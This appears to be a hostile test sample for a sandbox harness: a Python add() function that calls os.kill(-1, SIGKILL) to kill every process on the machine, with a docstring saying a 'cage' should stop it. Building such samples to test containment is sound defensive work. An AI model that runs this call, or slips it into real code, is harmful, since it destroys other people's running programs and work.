"""Sends SIGKILL to every process there is.

attacks: test_sum, test_again
expected: failed or crashed
stopped-by: cage
weakest: not run: it would end this machine's programs
"""

import os
import signal

from honest_but_wrong import *


def add(a, b):
    os.kill(-1, signal.SIGKILL)
    return 0
